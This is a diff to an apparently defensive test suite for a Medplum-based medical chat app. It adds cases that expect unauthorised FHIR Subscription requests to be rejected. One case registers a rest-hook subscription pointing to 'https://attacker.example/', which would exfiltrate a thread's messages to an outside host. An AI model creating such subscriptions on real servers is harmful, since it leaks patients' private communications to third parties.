@@ -197,6 +197,34 @@ export async function messagesBothWays(ctx: AttackContext, kit: AttackKit): Prom
     describe(listedInApp),
   );
 
+  // Live updates: the app's chat asks Medplum for a WebSocket Subscription on the thread's messages.
+  const live = (channel: Record<string, unknown>, criteria = `Communication?part-of=${thread}`) => ({
+    resourceType: 'Subscription',
+    status: 'active',
+    reason: 'lane: live chat',
+    criteria,
+    channel,
+  });
+  await control(
+    'messages: the Northwind clinician asks for live updates of the thread as the app’s chat does (Subscription, channel websocket)',
+    clinician,
+    thread,
+    () => direct(clinician, 'POST', 'Subscription', live({ type: 'websocket' })),
+    { status: 201 },
+  );
+  await attack(
+    'messages: the Northwind clinician creates a rest-hook Subscription on the thread’s messages (endpoint https://attacker.example/)',
+    { attacker: 'northwind-clinician', target: thread },
+    (a) => direct(a, 'POST', 'Subscription', live({ type: 'rest-hook', endpoint: 'https://attacker.example/' })),
+    'rejected',
+  );
+  await attack(
+    'messages: alice creates a WebSocket Subscription on her thread directly on Medplum',
+    { attacker: 'alice', target: thread },
+    (a) => direct(a, 'POST', 'Subscription', live({ type: 'websocket' })),
+    'rejected',
+  );
+
   // Attacks.
   const target = thread;
   await attack(
